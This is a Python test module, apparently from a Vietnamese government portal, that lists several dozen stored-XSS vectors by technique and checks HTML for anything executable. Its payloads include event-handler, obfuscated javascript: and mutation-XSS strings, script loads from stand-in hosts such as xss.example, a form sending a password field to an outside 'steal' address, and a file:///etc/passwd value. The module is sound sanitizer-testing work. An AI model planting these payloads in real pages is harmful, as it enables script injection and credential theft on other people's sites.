"""Stored-XSS vectors of every class and a checker that finds anything executable in HTML."""

import json
import re
from dataclasses import dataclass

import lxml.html

# (class, vector). Classic lists (OWASP cheat sheet, PortSwigger's, html5sec.org) boiled down to
# one or more representatives per technique.
VECTORS: list[tuple[str, str]] = [
    # script
    ("script", "<script>alert(1)</script>"),
    ("script", "<SCRIPT SRC=//xss.example/x.js></SCRIPT>"),
    ("script", "<script/xss src=//xss.example/x.js></script>"),
    ("script", "<<script>alert(2);//<</script>"),
    ("script", '<script type="text/javascript">alert(3)</script>'),
    ("script", "<scr<script>ipt>alert(4)</scr</script>ipt>"),
    ("script", "</p><script>alert(5)</script><p>"),
    # event handlers
    ("event", "<img src=x onerror=alert(6)>"),
    ("event", '<img src="x" OnErRoR="alert(7)">'),
    ("event", "<img/src=x/onerror=alert(8)>"),
    ("event", "<body onload=alert(9)>"),
    ("event", "<p onmouseover=alert(10)>rê chuột</p>"),
    ("event", '<a href="https://ok.example" onclick="alert(11)">bấm</a>'),
    ("event", "<details open ontoggle=alert(12)>"),
    ("event", "<video><source onerror=alert(13)></video>"),
    ("event", "<input autofocus onfocus=alert(14)>"),
    ("event", '<table background="javascript:alert(15)"><tr><td onclick=alert(15)>ô</td></tr></table>'),
    ("event", "<marquee onstart=alert(16)>chữ chạy</marquee>"),
    # javascript: / data: URLs, obfuscated
    ("url", '<a href="javascript:alert(17)">liên kết</a>'),
    ("url", '<a href="JaVaScRiPt:alert(18)">liên kết</a>'),
    ("url", '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(19)">thực thể</a>'),
    ("url", '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;:alert(20)">hex</a>'),
    ("url", '<a href="jav&#x09;ascript:alert(21)">tab</a>'),
    ("url", '<a href="jav\tascript:alert(22)">tab thô</a>'),
    ("url", '<a href="java\nscript:alert(23)">xuống dòng</a>'),
    ("url", '<a href="\x01javascript:alert(24)">ký tự điều khiển</a>'),
    ("url", '<a href=" javascript:alert(25)">khoảng trắng</a>'),
    ("url", '<a href="javascript&colon;alert(26)">colon</a>'),
    ("url", '<img src="javascript:alert(27)">'),
    ("url", '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgyOCk8L3NjcmlwdD4=">data</a>'),
    ("url", '<img src="data:image/svg+xml,<svg onload=alert(29)>">'),
    ("url", '<a href="vbscript:msgbox(30)">vb</a>'),
    ("url", '<img srcset="javascript:alert(31) 1x">'),
    ("url", '<a href="//xss.example/">giao thức tương đối</a><img src="//xss.example/p.gif">'),
    # SVG and MathML
    ("svg", "<svg onload=alert(32)>"),
    ("svg", "<svg><script>alert(33)</script></svg>"),
    ("svg", '<svg><a xlink:href="javascript:alert(34)"><text y="20">x</text></a></svg>'),
    ("svg", "<svg><animate onbegin=alert(35) attributeName=x dur=1s>"),
    ("svg", '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(36)>#x"/></svg>'),
    (
        "math",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(37)></style>"
        "</mglyph></table></mtext></math>",
    ),
    ("math", '<math href="javascript:alert(38)">CLICK</math>'),
    # style
    ("style", "<style>@import 'https://xss.example/x.css';</style>"),
    ("style", '<p style="background:url(javascript:alert(40))">nền</p>'),
    ("style", '<div style="width: expression(alert(41));">IE</div>'),
    ("style", "<style>*{background:url(https://xss.example/leak)}</style><p>x</p>"),
    # mutation XSS
    ("mxss", '<noscript><p title="</noscript><img src=x onerror=alert(43)>"></noscript>'),
    ("mxss", "<template><script>alert(44)</script></template>"),
    ("mxss", "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(45)>"),
    ("mxss", '<svg></p><style><a id="</style><img src=1 onerror=alert(46)>">'),
    ("mxss", "<!--<img src=x onerror=alert(47)>-->"),
    ("mxss", '<p title="--><img src=x onerror=alert(48)>">chú thích</p>'),
    ("mxss", "<xmp><img src=x onerror=alert(49)></xmp>"),
    ("mxss", '<textarea><img title="</textarea><img src=x onerror=alert(50)>"></textarea>'),
    # iframe srcdoc, objects, embeds
    ("iframe", '<iframe srcdoc="<script>alert(51)</script>"></iframe>'),
    ("iframe", '<iframe src="javascript:alert(52)"></iframe>'),
    ("iframe", '<object data="javascript:alert(53)"></object>'),
    ("iframe", '<embed src="data:text/html,<script>alert(54)</script>">'),
    # meta refresh, base, link
    ("meta", '<meta http-equiv="refresh" content="0;url=javascript:alert(55)">'),
    ("meta", '<meta http-equiv="refresh" content="0;url=https://xss.example/">'),
    ("base", '<base href="https://xss.example/">'),
    ("base", '<link rel="stylesheet" href="https://xss.example/x.css">'),
    # forms
    ("form", '<form action="javascript:alert(59)"><button>gửi</button></form>'),
    ("form", '<button formaction="javascript:alert(60)">gửi</button>'),
    ("form", '<form action="https://xss.example/steal"><input name="password"></form>'),
    ("form", "<isindex type=image src=1 onerror=alert(62)>"),
    # attribute breaking and encoding tricks
    ("attr", '"><script>alert(63)</script>'),
    ("attr", "'><img src=x onerror=alert(64)>"),
    ("attr", '<img src="x` `<script>alert(65)</script>"` `>'),
    ("attr", '<a href="https://ok.example" title="&quot;onmouseover=alert(66)">t</a>'),
    ("attr", "<IMG SRC=`javascript:alert(67)`>"),
    ("attr", "\ufeff<img src=x onerror=alert(68)>"),
    ("attr", '<a href="https://ok.example" target=_top data-x=\'1\' id=foo class="evil">id/class</a>'),
]

_URL_ATTRS = {"href", "src", "action", "formaction", "xlink:href", "data", "background", "poster", "srcdoc"}
_SCRIPT_OK_TYPES = {"application/ld+json", "application/json"}
_CONTROL = re.compile(r"[\x00-\x20]+")


@dataclass
class Finding:
    what: str
    where: str

    def __str__(self) -> str:
        return f"{self.what}: {self.where[:160]}"


def _dangerous_url(value: str) -> bool:
    # What a browser does: strip leading/trailing control and space chars and internal tab/LF/CR.
    # lxml has already decoded entities.
    compact = _CONTROL.sub("", value).lower()
    return compact.startswith(("javascript:", "vbscript:", "data:text", "data:image/svg", "data:application"))


def findings(html: str) -> list[Finding]:
    """Everything in `html` that could run script or load from another site's control."""
    if not html.strip():
        return []
    html = xml_safe(html)
    document = (
        lxml.html.document_fromstring(html)
        if "<html" in html[:500].lower()
        else lxml.html.fragment_fromstring(html, create_parent="div")
    )
    found: list[Finding] = []
    for element in document.iter():
        if not isinstance(element.tag, str):
            continue
        tag = element.tag.lower()
        source = lxml.html.tostring(element, encoding="unicode")[:200]
        if tag == "script":
            script_type = (element.get("type") or "").strip().lower()
            src = element.get("src")
            if script_type in _SCRIPT_OK_TYPES and not src:
                try:
                    json.loads(element.text or "")
                except ValueError:
                    found.append(Finding("JSON data block that is not JSON (broken out of?)", source))
            elif (
                src and src.startswith("/") and not src.startswith("//") and not (element.text or "").strip()
            ):
                pass  # a same-origin file: our static JS, the admin's jsi18n
            else:
                found.append(Finding("script", source))
        if tag in {"iframe", "frame", "object", "embed", "applet"} and (
            element.get("srcdoc") is not None or tag != "iframe" or _dangerous_url(element.get("src", ""))
        ):
            found.append(Finding(tag, source))
        if tag == "meta" and (element.get("http-equiv") or "").strip().lower() == "refresh":
            found.append(Finding("meta refresh", source))
        if tag == "base":
            found.append(Finding("base", source))
        for name, value in element.attrib.items():
            lname = name.lower()
            if lname.startswith("on"):
                found.append(Finding(f"event handler {name}", source))
            if lname in _URL_ATTRS and _dangerous_url(value):
                found.append(Finding(f"{name}={value[:40]!r}", source))
            if lname == "srcset" and any(_dangerous_url(part.strip()) for part in value.split(",")):
                found.append(Finding("srcset URL", source))
            if lname == "style" and re.search(r"expression\(|javascript:|url\(", value, re.I):
                found.append(Finding("style", source))
        if tag == "style" and re.search(r"@import|url\(|expression", element.text or "", re.I):
            found.append(Finding("style block", source))
    return found


_NOT_XML = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]")


def xml_safe(html: str) -> str:
    """lxml refuses control characters; a browser shows them as text, so a placeholder will do."""
    return _NOT_XML.sub("\ufffd", html)


def vector_ids() -> list[str]:
    return [f"{i:02d}-{cls}" for i, (cls, _) in enumerate(VECTORS)]


# Values a person (or a forged request) may type into a link field: every one is refused.
LINK_VECTORS: list[tuple[str, str]] = [
    ("javascript", "javascript:alert(document.domain)"),
    ("mixed-case", "JaVaScRiPt:alert(1)"),
    ("tab-split", "java\tscript:alert(1)"),
    ("newline-split", "java\nscript:alert(1)"),
    ("leading-control", "\x01javascript:alert(1)"),
    ("leading-space", "  javascript:alert(1)"),
    ("entity-decimal", "&#106;avascript:alert(1)"),
    ("entity-hex", "&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;:alert(1)"),
    ("entity-tab", "jav&#x09;ascript:alert(1)"),
    ("entity-colon", "javascript&colon;alert(1)"),
    ("entity-twice", "&amp;#106;avascript:alert(1)"),
    ("data-html", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="),
    ("data-svg", "data:image/svg+xml,<svg onload=alert(1)>"),
    ("vbscript", "vbscript:msgbox(1)"),
    ("vbscript-upper", "VBSCRIPT:msgbox(1)"),
    ("protocol-relative", "//evil.example/x.js"),
    ("backslash-relative", "/\\evil.example/x.js"),
    ("anchor-snippet", '<a href="https://chinhphu.vn/">Chính phủ</a>'),
    ("anchor-javascript", '<a href="javascript:alert(1)">bấm</a>'),
    ("attribute-break", 'https://chinhphu.vn/"><script>alert(1)</script>'),
    ("no-host", "https:///duong-dan"),
    ("no-slashes", "https:evil.example"),
    ("file", "file:///etc/passwd"),
]
# Values that must keep working: absolute http(s) addresses and paths inside the portal.
VALID_LINKS = [
    "https://chinhphu.vn/",
    "http://vinhlong.gov.vn/tin-tuc?id=12&trang=2",
    "https://www.facebook.com/bcd35.duyenhai",
    "/van-ban/",
    "/tin-tuc/hoat-dong/#binh-luan",
]
